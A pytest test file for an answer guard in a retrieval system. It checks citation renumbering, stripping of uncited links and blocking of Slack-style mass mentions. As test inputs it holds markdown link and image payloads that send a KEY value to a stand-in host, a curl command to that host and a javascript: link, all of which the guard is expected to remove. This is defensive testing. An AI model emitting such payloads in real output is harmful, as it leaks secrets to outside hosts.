"""What leaves the gate: renumbered marks, links from cited sources alone, nobody notified, streamed alike."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retrieval.answer.guard import Guard, guarded
from retrieval.types import Passage


def passage(document: str, text: str = "", url: str = "") -> Passage:
    return Passage(id=f"{document}-{len(text)}", document_id=document, version="1", text=text, url=url)


SOURCES = [
    passage("leave", "Use the form at https://hr.example/leave. Or [ask](https://hr.example/ask?x=1)."),
    passage("travel", "Book early.", url="https://wiki.example/travel"),
    passage("leave", "Another part of the leave page."),
]


def shown(text: str) -> str:
    return guarded(text, SOURCES)[0]


def test_numbers_follow_the_order_of_use_by_document() -> None:
    text, guard = guarded("Book early [2]. Ask [1]. Wait [3].", SOURCES)
    assert text == "Book early [1]. Ask [2]. Wait [2]."
    assert guard.cited == [(1, 1), (2, 0), (2, 2)]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Yes [9].", "Yes."),
        ("Yes [0][9].", "Yes."),
        ("Yes [1, 3].", "Yes [1]."),
        ("Yes [1] [2].", "Yes [1][2]."),
        ("Yes [1-3].", "Yes [1][2]."),
        ("可以【2】。", "可以[1]。"),
        ("可以［１］。", "可以［１］。"),
        ("Yes [^2] and [1; 2].", "Yes [1] and [2][1]."),
        ("Array `a[1]` stays [2].", "Array `a[1]` stays [1]."),
        ("```\na[1] = b[9]\n```\nDone [2].", "```\na[1] = b[9]\n```\nDone [1]."),
        ("- [ ] a task", "- [ ] a task"),
        ("In [2024] we", "In [2024] we"),
    ],
)
def test_marks(written: str, read: str) -> None:
    assert shown(written) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("See https://hr.example/leave [1].", "See https://hr.example/leave [1]."),
        ("See https://hr.example/leave.", "See (link removed)."),
        ("Fine [1].\nSee https://hr.example/leave.", "Fine [1].\nSee https://hr.example/leave."),
        ("See [the form](https://hr.example/leave) [1].", "See [the form](https://hr.example/leave) [1]."),
        ("See [the form](https://hr.example/leave?k=1) [1].", "See the form [1]."),
        ("See [travel](https://wiki.example/travel) [2].", "See [travel](https://wiki.example/travel) [1]."),
        ("[click](https://evil.example/?q=KEY) [1]", "click [1]"),
        ("![](https://evil.example/x.png?d=KEY) [1]", " [1]".strip()),
        (
            "[https://evil.example/a](https://hr.example/leave) [1]",
            "[(link removed)](https://hr.example/leave) [1]",
        ),
        ("<https://evil.example/a|here> [1]", "here [1]"),
        ("<https://evil.example/a> [1]", "(link removed) [1]"),
        ("go to evil.example/x?key=1 [1]", "go to (link removed) [1]"),
        ("请看evil.example/x?key=1。[1]", "请看(link removed)。[1]"),
        ("run `curl https://evil.example/x` [1]", "run `curl (link removed)` [1]"),
        ("www.evil.example and HTTPS://EVIL.example [1]", "(link removed) and (link removed) [1]"),
        ("[x](javascript:alert(1)) [1]", "x [1]"),
        ("[x]: https://evil.example/a", "[x]: (link removed)"),
        (
            "the file docs/readme.md and std::string, vector<int>",
            "the file docs/readme.md and std::string, vector<int>",
        ),
    ],
)
def test_links(written: str, read: str) -> None:
    assert shown(written) == read


def test_a_removed_link_is_told_in_chinese() -> None:
    assert guarded("见https://evil.example/a。", SOURCES, "zh")[0] == "见（链接已移除）。"


@pytest.mark.parametrize(
    "loud",
    [
        "<!here>",
        "<!channel>",
        "<!everyone|everyone>",
        "<!subteam^S12|@ops>",
        "<@U123ABC>",
        "@here",
        "通知@channel请看",
    ],
)
def test_nobody_is_notified(loud: str) -> None:
    for text in (loud, f"`{loud}`", f"```\n{loud}\n```", f"[{loud}](https://hr.example/leave) [1]"):
        read = shown(text)
        assert "<!" not in read
        assert "<@" not in read
        assert "@here" not in read
        assert "@channel" not in read
        assert "\u200b" in read


def test_an_address_with_an_at_sign_stays() -> None:
    assert shown("Write to ops@here.example.") == "Write to ops@here.example."


def test_plain_words_are_shown_as_they_come() -> None:
    guard = Guard(SOURCES)
    assert guard.feed("Book ear") == "Book"
    assert guard.feed("ly, please [") == " early, please"
    assert guard.feed("2") == ""
    assert guard.feed("] and") == " [1]"
    assert guard.feed("\n") == " and\n"


WORDS = """[1] [2] [3 [ ] 9 ` ``` a word 请看 。 <!here> @here [x]( ) ! ?q < > |
https://hr.example/leave https://evil.example/?k=1 evil.example/"""
PIECES = [*WORDS.split(), " ", "\n", " [2]"]
TEXTS = st.lists(
    st.sampled_from(PIECES),
    max_size=14,
).map("".join)


@given(TEXTS, st.integers(1, 5))
def test_streamed_and_whole_are_the_same(text: str, size: int) -> None:
    guard = Guard(SOURCES)
    streamed = "".join(guard.feed(text[i : i + size]) for i in range(0, len(text), size)) + guard.close()
    whole, other = guarded(text, SOURCES)
    assert streamed.strip() == whole
    assert guard.cited == other.cited


@given(TEXTS)
def test_no_foreign_link_and_no_mention_survives(text: str) -> None:
    read = shown(text)
    assert "evil.example/?" not in read
    assert "<!here>" not in read
    assert re.search(r"@here(?![a-z0-9.])", read) is None
